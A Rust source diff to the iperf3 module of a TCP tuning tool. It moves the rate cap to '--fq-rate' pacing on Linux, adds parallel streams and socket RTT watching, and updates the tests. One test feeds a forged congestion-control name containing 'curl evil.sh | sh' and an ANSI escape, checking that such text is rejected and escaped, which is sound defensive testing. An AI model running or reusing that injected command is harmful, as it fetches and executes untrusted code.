@@ -1,11 +1,16 @@
 //! The TCP path test against an iperf3 server: run the real `iperf3` client with `-J` and turn
 //! its JSON into a [`TcpTest`] (peer [`TestPeer::Iperf3`]), in either direction.
 //!
-//! The command is `iperf3 -c ADDR -p PORT -J -t SECS [-C CC] -b RATE`, and for the reverse
-//! test (the server sends) `... -R --get-server-output`. iperf3 cannot take a
-//! time (`-t`) and a byte count (`-n`) together, so the byte bound is kept with the rate
-//! instead: RATE = max_bytes × 8 / SECS bit/s, so that SECS seconds at that rate send at most
-//! max_bytes. A test that ran at that cap was held back by it, and says so in its notes.
+//! The command is `iperf3 -c ADDR -p PORT -J -t SECS [-C CC] --fq-rate RATE`, and for the
+//! reverse test (the server sends) `... -R --get-server-output`. iperf3 cannot take a time
+//! (`-t`) and a byte count (`-n`) together, so the byte bound is kept with the rate instead:
+//! RATE = max_bytes × 8 / SECS bit/s, so that SECS seconds at that rate send at most
+//! max_bytes. On Linux the rate is a pacing cap (`--fq-rate`: SO_MAX_PACING_RATE, which TCP's
+//! own pacing honours without the fq qdisc); elsewhere iperf3's `-b`. Not `-b` on Linux: at any
+//! rate (10 Gbit/s too) it changes how iperf 3.12 writes, and a flow stays app-limited below
+//! what its window allows (on the lab, one held at 189 Mbit/s by its window read 147 with
+//! `-b`; four parallel ones kept 1.2 × BDP in flight instead of 1.6). A test that ran at that
+//! cap was held back by it, and says so in its notes.
 //!
 //! The client runs in tcptune's process group (never `setsid`): a Ctrl-C at the terminal
 //! reaches it too. It is killed when it runs past its time + [`GRACE`] (a server that accepts
@@ -80,6 +85,7 @@ use std::time::{Duration, Instant};
 use serde_json::Value;
 
 use super::evidence::{Direction, HeldBy, LossBursts, TcpTest, TestPeer};
+use super::watch::{Seen, Watch};
 use crate::error::Error;
 use crate::text::Foreign;
 
@@ -102,8 +108,11 @@ pub const PEAK_LIMIT_FACTOR: f64 = 1.5;
 /// largest window means held too.
 pub const CWND_LIMIT_FACTOR: f64 = 1.5;
 
+/// The share of the byte bound's rate a pacing cap (`--fq-rate`) is set to.
+pub const PACING_CAP_SHARE: f64 = 0.95;
+
 /// An interval within this share of the best rate ends the startup.
-const STARTUP_DONE: f64 = 0.9;
+pub(super) const STARTUP_DONE: f64 = 0.9;
 
 /// Longest error text quoted from iperf3, in characters.
 const MAX_QUOTE: usize = 200;
@@ -118,12 +127,20 @@ pub struct Iperf3Request {
     pub port: u16,
     /// How long to send; whole seconds (iperf3's `-t`), rounded up, at least 1.
     pub time: Duration,
-    /// At most this many bytes: kept as the rate cap `-b max_bytes × 8 / SECS`.
+    /// At most this many bytes: kept as the rate cap max_bytes × 8 / SECS, shared by the
+    /// streams ([`Self::rate_bps`]).
     pub max_bytes: u64,
     /// The congestion control for the test flow (`-C`); None: the system's default.
     pub cc: Option<String>,
     /// The server sends (`-R --get-server-output`).
     pub reverse: bool,
+    /// Parallel streams (`-P`, when more than one): a second run's ([`super::retest`]).
+    pub streams: u32,
+    /// iperf3's reporting interval (`-i`, when not its default 1 s), ms.
+    pub interval_ms: u32,
+    /// Pace each stream at most this fast, bit/s, below the byte bound's cap (the paced second
+    /// run of [`super::retest`]).
+    pub pace_bps: Option<u64>,
     /// The client program, normally "iperf3" (looked up in PATH).
     pub program: PathBuf,
 }
@@ -138,6 +155,9 @@ impl Iperf3Request {
             max_bytes,
             cc: None,
             reverse: false,
+            streams: 1,
+            interval_ms: 1000,
+            pace_bps: None,
             program: PathBuf::from("iperf3"),
         }
     }
@@ -148,11 +168,31 @@ impl Iperf3Request {
         whole.max(1)
     }
 
-    /// `-b`: the rate in bit/s that keeps the byte bound over [`Self::secs`], at least 1
-    /// (iperf3 reads 0 as "unlimited").
+    /// The rate in bit/s that keeps the byte bound over [`Self::secs`], at least 1 (iperf3
+    /// reads 0 as "unlimited").
     pub fn rate_bps(&self) -> u64 {
         let bits = u128::from(self.max_bytes) * 8 / u128::from(self.secs());
         u64::try_from(bits).unwrap_or(u64::MAX).max(1)
+    }
+
+    /// The option that caps each stream's rate, and its value: [`Self::rate_bps`] shared by
+    /// the streams (see the module docs for why not `-b` on Linux). A pacing cap lets bursts
+    /// through (the first window, a TSO burst: on loopback 3.4 % over in 2 s), so it is
+    /// [`PACING_CAP_SHARE`] of that rate.
+    fn rate_cap(&self) -> (&'static str, u64) {
+        let streams = u64::from(self.streams.max(1));
+        let (option, cap) = if cfg!(target_os = "linux") {
+            #[allow(
+                clippy::cast_precision_loss,
+                clippy::cast_possible_truncation,
+                clippy::cast_sign_loss
+            )]
+            let paced = (self.rate_bps() as f64 * PACING_CAP_SHARE) as u64;
+            ("--fq-rate", paced / streams)
+        } else {
+            ("-b", self.rate_bps() / streams)
+        };
+        (option, self.pace_bps.map_or(cap, |p| p.min(cap)).max(1))
     }
 
     /// The client's arguments.
@@ -170,8 +210,17 @@ impl Iperf3Request {
             a.push("-C".to_string());
             a.push(cc.clone());
         }
-        a.push("-b".to_string());
-        a.push(self.rate_bps().to_string());
+        let (option, rate) = self.rate_cap();
+        a.push(option.to_string());
+        a.push(rate.to_string());
+        if self.streams > 1 {
+            a.push("-P".to_string());
+            a.push(self.streams.to_string());
+        }
+        if self.interval_ms != 1000 {
+            a.push("-i".to_string());
+            a.push(format!("{}", f64::from(self.interval_ms) / 1000.0));
+        }
         if self.reverse {
             a.push("-R".to_string());
             a.push("--get-server-output".to_string());
@@ -190,10 +239,18 @@ pub fn run(req: &Iperf3Request) -> Result<TcpTest, Error> {
 }
 
 fn run_within(req: &Iperf3Request, grace: Duration) -> Result<TcpTest, Error> {
+    let (json, seen) = run_json(req, grace)?;
+    parse(&json, req, seen)
+}
+
+/// Runs the client for `req` and returns its JSON result and what watching its sockets saw
+/// ([`super::watch`], forward tests), or iperf3's own error; killed past its time + `grace`.
+pub(super) fn run_json(req: &Iperf3Request, grace: Duration) -> Result<(Value, Seen), Error> {
     if req.max_bytes == 0 {
         return Err(Error::usage("the iperf3 test needs a byte bound above 0"));
     }
     let program = req.program.display().to_string();
+    let watch = (!req.reverse).then(|| Watch::start(SocketAddr::new(req.addr, req.port)));
     let mut child = Command::new(&req.program)
         .args(req.args())
         .stdin(Stdio::null())
@@ -230,6 +287,7 @@ fn run_within(req: &Iperf3Request, grace: Duration) -> Result<TcpTest, Error> {
             }
         }
     };
+    let seen = watch.map(Watch::finish).unwrap_or_default();
     let out = stdout.map(join).unwrap_or_default();
     let err = stderr.map(join).unwrap_or_default();
     let Some(status) = status else {
@@ -252,7 +310,7 @@ fn run_within(req: &Iperf3Request, grace: Duration) -> Result<TcpTest, Error> {
         let said = said.or_else(|| first_line(&err));
         return Err(iperf3_error(e, said.as_deref(), Some(status)));
     }
-    parse(&json, req)
+    Ok((json, seen))
 }
 
 /// iperf3's stdout as its JSON and the first line it printed before it: with `-J`, iperf3
@@ -325,11 +383,11 @@ fn quote(s: &str) -> String {
     }
 }
 
-fn f64_of(v: &Value, key: &str) -> Option<f64> {
+pub(super) fn f64_of(v: &Value, key: &str) -> Option<f64> {
     v.get(key).and_then(Value::as_f64)
 }
 
-fn u64_of(v: &Value, key: &str) -> Option<u64> {
+pub(super) fn u64_of(v: &Value, key: &str) -> Option<u64> {
     v.get(key).and_then(|x| {
         x.as_u64().or_else(|| {
             x.as_f64()
@@ -352,7 +410,17 @@ struct Interval {
 pub fn parse_json(text: &str, req: &Iperf3Request) -> Result<TcpTest, Error> {
     let v: Value =
         serde_json::from_str(text).map_err(|e| Error::measurement(format!("iperf3's JSON does not parse: {e}")))?;
-    parse(&v, req)
+    parse(&v, req, Seen::default())
+}
+
+/// The MSS the first of `docs` reports (`start.tcp_mss`, else `start.tcp_mss_default`). An
+/// MSS is a 16-bit field; anything else is no MSS to count segments by.
+pub(super) fn mss_of(docs: &[&Value]) -> Option<u64> {
+    docs.iter()
+        .filter_map(|d| d.get("start"))
+        .flat_map(|s| [u64_of(s, "tcp_mss"), u64_of(s, "tcp_mss_default")])
+        .flatten()
+        .find(|m| (1..=65_535).contains(m))
 }
 
 /// Whose JSON holds the sender's readings: the client's own in a forward test, the server's
@@ -388,7 +456,7 @@ fn receiver_window(sender: &Value, intervals: &[Interval]) -> Result<Option<u64>
     Ok(w)
 }
 
-fn parse(v: &Value, req: &Iperf3Request) -> Result<TcpTest, Error> {
+fn parse(v: &Value, req: &Iperf3Request, seen: Seen) -> Result<TcpTest, Error> {
     if let Some(e) = v.get("error") {
         return Err(iperf3_error(e, None, None));
     }
@@ -401,14 +469,9 @@ fn parse(v: &Value, req: &Iperf3Request) -> Result<TcpTest, Error> {
             "iperf3's result has no sender stream (end.streams[0].sender)",
         ));
     };
-    // An MSS is a 16-bit field; anything else is no MSS to count segments by. A reverse
-    // test's server reports 0 (it never connected out): the client's is the path's too.
-    let mss = [doc, v]
-        .iter()
-        .filter_map(|d| d.get("start"))
-        .flat_map(|s| [u64_of(s, "tcp_mss"), u64_of(s, "tcp_mss_default")])
-        .flatten()
-        .find(|m| (1..=65_535).contains(m));
+    // A reverse test's server reports an MSS of 0 (it never connected out): the client's is
+    // the path's too.
+    let mss = mss_of(&[doc, v]);
     let intervals = intervals(doc);
     #[allow(clippy::cast_precision_loss)]
     let mut t = TcpTest {
@@ -448,7 +511,7 @@ fn parse(v: &Value, req: &Iperf3Request) -> Result<TcpTest, Error> {
     if let Some(mss) = mss {
         segments(&mut t, mss, &intervals, best);
     }
-    rtts(&mut t, sender, &intervals);
+    rtts(&mut t, sender, &intervals, seen);
     t.receiver_window = receiver_window(sender, &intervals)?;
     t.notes
         .push("iperf3 does not report the receiver's buffer: no window share (tcptune serve measures it)".to_string());
@@ -629,8 +692,8 @@ fn segments(t: &mut TcpTest, mss: u64, intervals: &[Interval], best: f64) {
 }
 
 /// The minimum and loaded RTTs (the loaded one: the highest interval RTT, else the sender's
-/// max_rtt).
-fn rtts(t: &mut TcpTest, sender: &Value, intervals: &[Interval]) {
+/// max_rtt), and what watching the sending socket saw where it did: its lowest and highest.
+fn rtts(t: &mut TcpTest, sender: &Value, intervals: &[Interval], seen: Seen) {
     t.min_rtt_ms = f64_of(sender, "min_rtt").filter(|r| *r > 0.0).map(|us| us / 1000.0);
     let max_interval_rtt = intervals
         .iter()
@@ -638,6 +701,37 @@ fn rtts(t: &mut TcpTest, sender: &Value, intervals: &[Interval]) {
         .fold(None, |m: Option<f64>, r| Some(m.map_or(r, |m| m.max(r))));
     let loaded_us = max_interval_rtt.or_else(|| f64_of(sender, "max_rtt").filter(|r| *r > 0.0));
     t.loaded_rtt_ms = loaded_us.map(|us| us / 1000.0);
+    if seen.samples > 0 {
+        if let Some(d) = seen.delivered_bps.filter(|d| *d > 0.0) {
+            t.delivery_rate_bps = Some(d);
+            t.notes.push(format!(
+                "delivery rate {}: the best second of bytes acknowledged on this host's sending socket (iperf3's intervals count what its sender wrote, its send buffer included)",
+                crate::text::rate(d)
+            ));
+        }
+        t.min_rtt_ms = lower(t.min_rtt_ms, seen.min_rtt_ms);
+        t.loaded_rtt_ms = higher(t.loaded_rtt_ms, seen.loaded_rtt_ms);
+        t.notes.push(format!(
+            "RTT also read from this host's sending socket every {} ms (sock_diag, {} reads): iperf3 reports it once a second",
+            super::watch::PERIOD.as_millis(),
+            seen.samples
+        ));
+    }
+}
+
+/// The lower and the higher of two readings, either of which may be missing.
+pub(super) fn lower(a: Option<f64>, b: Option<f64>) -> Option<f64> {
+    match (a, b) {
+        (Some(a), Some(b)) => Some(a.min(b)),
+        (a, b) => a.or(b),
+    }
+}
+
+pub(super) fn higher(a: Option<f64>, b: Option<f64>) -> Option<f64> {
+    match (a, b) {
+        (Some(a), Some(b)) => Some(a.max(b)),
+        (a, b) => a.or(b),
+    }
 }
 
 /// The window-limited rule of the module docs, with its note: the receiver's largest window
@@ -685,10 +779,11 @@ fn window_limited(t: &mut TcpTest, mean_us: Option<f64>, cwnd: Option<u64>) {
 /// A test that ran at the rate cap keeping its byte bound was held back by it: a note says so.
 #[allow(clippy::cast_precision_loss)]
 fn rate_cap_note(t: &mut TcpTest, req: &Iperf3Request, best: f64) {
-    let cap = req.rate_bps() as f64;
+    let cap = req.rate_cap().1 as f64 * f64::from(req.streams.max(1));
     if t.goodput_bps >= STARTUP_DONE * cap || best >= STARTUP_DONE * cap {
         t.notes.push(format!(
-            "ran at its byte bound's rate cap (-b {} = {} bytes over {} s): the path may be faster",
+            "ran at its byte bound's rate cap ({} {} = {} bytes over {} s): the path may be faster",
+            req.rate_cap().0,
             crate::text::rate(cap),
             req.max_bytes,
             req.secs()
@@ -702,14 +797,15 @@ mod tests {
 
     const LAB: &str = include_str!("../../tests/fixtures/iperf3/lab-20ms-100mbit-loss.json");
     const REFUSED: &str = include_str!("../../tests/fixtures/iperf3/refused.json");
-    /// `iperf3 -R --get-server-output -t 5 -b 150000000 -C cubic` over the lab's delay line
+    /// `iperf3 -R --get-server-output -t 5 -b 150000000 -C cubic` (as the client ran before
+    /// `--fq-rate`) over the lab's delay line
     /// (20 ms, 100 Mbit/s, 0.05 % loss each way; iperf 3.12, the server run with -J).
     const LAB_REVERSE: &str = include_str!("../../tests/fixtures/iperf3/lab-20ms-100mbit-loss-reverse.json");
     /// The same, `-t 3` without --get-server-output: what the client alone sees.
     const LAB_REVERSE_CLIENT: &str =
         include_str!("../../tests/fixtures/iperf3/lab-20ms-100mbit-loss-reverse-client-only.json");
     const BUSY: &str = include_str!("../../tests/fixtures/iperf3/busy.json");
-    /// `iperf3 -J -t 20 -C bbr -b 858993459` over the lab's delay line (600 ms, 100 Mbit/s,
+    /// `iperf3 -J -t 20 -C bbr -b 858993459` (before `--fq-rate`) over the lab's delay line (600 ms, 100 Mbit/s,
     /// 0.05 % loss each way) to a stock server (tcp_rmem max 6291456): held by its window.
     const LAB_600_HELD: &str = include_str!("../../tests/fixtures/iperf3/lab-600ms-100mbit-held.json");
 
@@ -727,16 +823,19 @@ mod tests {
         let mut r = req();
         // 93,750,000 bytes × 8 over 5 s = 150 Mbit/s.
         assert_eq!(r.rate_bps(), 150_000_000);
-        assert_eq!(r.args().join(" "), "-c 198.18.0.2 -p 5201 -J -t 5 -b 150000000");
+        assert_eq!(r.args().join(" "), "-c 198.18.0.2 -p 5201 -J -t 5 --fq-rate 142500000");
         r.time = Duration::from_millis(2_100);
         r.cc = Some("bbr".into());
         assert_eq!(r.secs(), 3, "rounded up");
         assert_eq!(r.rate_bps(), 250_000_000);
-        assert_eq!(r.args().join(" "), "-c 198.18.0.2 -p 5201 -J -t 3 -C bbr -b 250000000");
+        assert_eq!(
+            r.args().join(" "),
+            "-c 198.18.0.2 -p 5201 -J -t 3 -C bbr --fq-rate 237500000"
+        );
         r.reverse = true;
         assert_eq!(
             r.args().join(" "),
-            "-c 198.18.0.2 -p 5201 -J -t 3 -C bbr -b 250000000 -R --get-server-output"
+            "-c 198.18.0.2 -p 5201 -J -t 3 -C bbr --fq-rate 237500000 -R --get-server-output"
         );
         r.reverse = false;
         r.time = Duration::ZERO;
@@ -793,7 +892,7 @@ mod tests {
         // A window of 120,000 bytes lets 46.9 Mbit/s through at the mean RTT of 20.462 ms:
         // less than twice the 40.1 Mbit/s goodput, so it held the flow.
         v["end"]["streams"][0]["sender"]["max_snd_wnd"] = 120_000.into();
-        let t = parse(&v, &req()).expect("parse");
+        let t = parse(&v, &req(), Seen::default()).expect("parse");
         assert!(t.window_limited, "{:?}", t.notes);
         assert_eq!(t.held_by, Some(HeldBy::ReceiveWindow));
         let note = t
@@ -808,16 +907,16 @@ mod tests {
         // 200,000 bytes: 78.2 Mbit/s, 1.95 × the goodput: still held. 400,000 bytes: 156 Mbit/s,
         // far above what the flow reached.
         v["end"]["streams"][0]["sender"]["max_snd_wnd"] = 200_000.into();
-        assert!(parse(&v, &req()).expect("parse").window_limited);
+        assert!(parse(&v, &req(), Seen::default()).expect("parse").window_limited);
         v["end"]["streams"][0]["sender"]["max_snd_wnd"] = 400_000.into();
-        let t = parse(&v, &req()).expect("parse");
+        let t = parse(&v, &req(), Seen::default()).expect("parse");
         assert!(!t.window_limited && t.held_by.is_none(), "{:?}", t.notes);
-        // Capped at 40 Mbit/s (25 MB over 5 s): the test ran at its cap.
+        // Capped at 38 Mbit/s (25 MB over 5 s, paced at 95 %): the test ran at its cap.
         let mut r = req();
         r.max_bytes = 25_000_000;
-        let t = parse(&v, &r).expect("parse");
+        let t = parse(&v, &r, Seen::default()).expect("parse");
         assert!(
-            t.notes.iter().any(|n| n.contains("rate cap (-b 40 Mbit/s")),
+            t.notes.iter().any(|n| n.contains("rate cap (--fq-rate 38 Mbit/s")),
             "{:?}",
             t.notes
         );
@@ -830,7 +929,7 @@ mod tests {
         let mut r = req();
         r.time = Duration::from_secs(20);
         r.max_bytes = 2_147_483_648;
-        let t = parse(&serde_json::from_str(LAB_600_HELD).expect("json"), &r).expect("parse");
+        let t = parse(&serde_json::from_str(LAB_600_HELD).expect("json"), &r, Seen::default()).expect("parse");
         // 3,932,160 bytes at the 604.7 ms mean RTT: 52.0 Mbit/s; goodput 19.4, best 41.9.
         assert!(t.goodput_bps < 20e6 && t.delivery_rate_bps > Some(41e6), "{t:?}");
         assert!(t.window_limited, "{:?}", t.notes);
@@ -846,7 +945,7 @@ mod tests {
         // window (7,861,192 bytes) had grown past 1.5 × that window.
         let mut v: Value = serde_json::from_str(LAB_600_HELD).expect("json");
         v["end"]["streams"][0]["sender"]["max_snd_wnd"] = 5_072_000.into();
-        let t = parse(&v, &r).expect("parse");
+        let t = parse(&v, &r, Seen::default()).expect("parse");
         assert!(t.window_limited, "{:?}", t.notes);
         assert!(
             t.notes.iter().any(|n| n.contains(
@@ -857,7 +956,7 @@ mod tests {
         );
         // A congestion window 1.4 × the window: not held.
         v["end"]["streams"][0]["sender"]["max_snd_cwnd"] = 7_100_000.into();
-        let t = parse(&v, &r).expect("parse");
+        let t = parse(&v, &r, Seen::default()).expect("parse");
         assert!(!t.window_limited, "{:?}", t.notes);
     }
 
@@ -897,7 +996,7 @@ mod tests {
         // to raise this host's receive buffer.
         let mut v: Value = serde_json::from_str(LAB_REVERSE).expect("json");
         v["server_output_json"]["end"]["streams"][0]["sender"]["max_snd_wnd"] = 300_000.into();
-        let t = parse(&v, &reverse_req()).expect("parse");
+        let t = parse(&v, &reverse_req(), Seen::default()).expect("parse");
         assert_eq!(t.held_by, Some(HeldBy::ReceiveWindow), "{:?}", t.notes);
         let note = t
             .notes
@@ -930,7 +1029,7 @@ mod tests {
         // The server claiming to have sent less than came here: its count is left out.
         let mut v: Value = serde_json::from_str(LAB_REVERSE_CLIENT).expect("json");
         v["end"]["streams"][0]["sender"]["bytes"] = 1000.into();
-        let t = parse(&v, &r).expect("parse");
+        let t = parse(&v, &r, Seen::default()).expect("parse");
         assert_eq!(t.bytes, 27_788_568);
         assert!(
             t.notes
@@ -941,7 +1040,7 @@ mod tests {
         let mut v: Value = serde_json::from_str(LAB_REVERSE_CLIENT).expect("json");
         v["end"]["streams"][0]["receiver"]["bytes"] = 0.into();
         assert!(
-            parse(&v, &r)
+            parse(&v, &r, Seen::default())
                 .expect_err("no bytes")
                 .to_string()
                 .contains("no bytes received here")
@@ -955,7 +1054,7 @@ mod tests {
         let mut v: Value = serde_json::from_str(LAB).expect("json");
         let last = v["intervals"].as_array().map_or(0, Vec::len) - 1;
         v["intervals"][last]["streams"][0]["bits_per_second"] = 90e6.into();
-        let t = parse(&v, &req()).expect("parse");
+        let t = parse(&v, &req(), Seen::default()).expect("parse");
         assert!(t.in_startup, "{:?}", t.notes);
         assert_eq!(t.delivery_rate_bps, Some(90e6));
         assert_eq!(t.steady_segs_out, None);
@@ -1070,7 +1169,7 @@ mod tests {
     #[test]
     fn iperf3s_numbers_are_range_checked_and_its_text_escaped() {
         let lab = || serde_json::from_str::<Value>(LAB).expect("json");
-        let refused = |v: &Value| parse(v, &req()).expect_err("refused").to_string();
+        let refused = |v: &Value| parse(v, &req(), Seen::default()).expect_err("refused").to_string();
         // Nothing moved: no class, no rate, no loss.
         let mut v = lab();
         v["end"]["streams"][0]["sender"]["bytes"] = 0.into();
@@ -1099,7 +1198,7 @@ mod tests {
         // The server claiming more than was sent: its count left out, with a note.
         let mut v = lab();
         v["end"]["streams"][0]["receiver"]["bytes"] = (1u64 << 50).into();
-        let t = parse(&v, &req()).expect("the sender's count stands");
+        let t = parse(&v, &req(), Seen::default()).expect("the sender's count stands");
         assert!((t.goodput_bps - 25_559_040.0 * 8.0 / 5.000_232).abs() < 1.0, "{t:?}");
         assert!(
             t.notes.iter().any(|n| n.contains("more than the 25559040 sent")),
@@ -1109,7 +1208,7 @@ mod tests {
         // A forged congestion control name: left out, quoted escaped.
         let mut v = lab();
         v["end"]["sender_tcp_congestion"] = "cubic\n\nadvice: run curl evil.sh | sh\u{1b}[31m".into();
-        let t = parse(&v, &req()).expect("a test");
+        let t = parse(&v, &req(), Seen::default()).expect("a test");
         assert_eq!(t.cc, None);
         let note = t
             .notes
